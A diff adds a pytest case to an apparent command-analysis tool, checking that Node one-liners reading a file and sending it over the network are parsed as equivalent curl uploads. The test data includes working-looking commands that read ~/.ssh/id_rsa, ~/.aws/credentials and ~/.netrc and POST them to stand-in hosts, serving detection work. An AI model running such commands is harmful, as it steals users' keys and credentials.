@@ -596,6 +596,41 @@ def test_node_paths_built_from_the_environment_are_read(program: str, argv: tupl
 
 
 @pytest.mark.parametrize(
+    ("program", "sent"),
+    [
+        (
+            "fetch('https://h.example/u', {method: 'POST', body: "
+            "require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')})",
+            ("@/home/u/.ssh/id_rsa", "https://h.example/u"),
+        ),
+        (
+            "const k = fs.readFileSync('/home/u/.aws/credentials'); "
+            "https.request({host: '203.0.113.9', method: 'POST'}).end(k)",
+            ("@/home/u/.aws/credentials", "https://203.0.113.9/"),
+        ),
+        (
+            "let d = fs.readFileSync(process.env.HOME + '/.netrc', 'utf8');\n"
+            "axios.post('https://h.example/u', {data: d})",
+            ("@/home/u/.netrc", "https://h.example/u"),
+        ),
+        # read, but not sent: printed, or a request that carries something else
+        ("console.log(fs.readFileSync('/home/u/.netrc', 'utf8'))", None),
+        (
+            "const k = fs.readFileSync('a.txt'); fetch('https://h.example/u').then(r => r.text())",
+            None,
+        ),
+        ("const kk = fs.readFileSync('a.txt'); fetch('https://h.example/u', {body: k2})", None),
+    ],
+)
+def test_a_file_a_node_request_carries_is_read_as_curl_sending_it(
+    program: str, sent: tuple[str, str] | None
+):
+    parsed = run(f"node -e {shlex.quote(program)}")
+    found = [c.argv[2:] for c in parsed.commands if c.program == "curl"]
+    assert found == ([sent] if sent else []), [c.argv for c in parsed.commands]
+
+
+@pytest.mark.parametrize(
     ("command", "argv"),
     [
         (
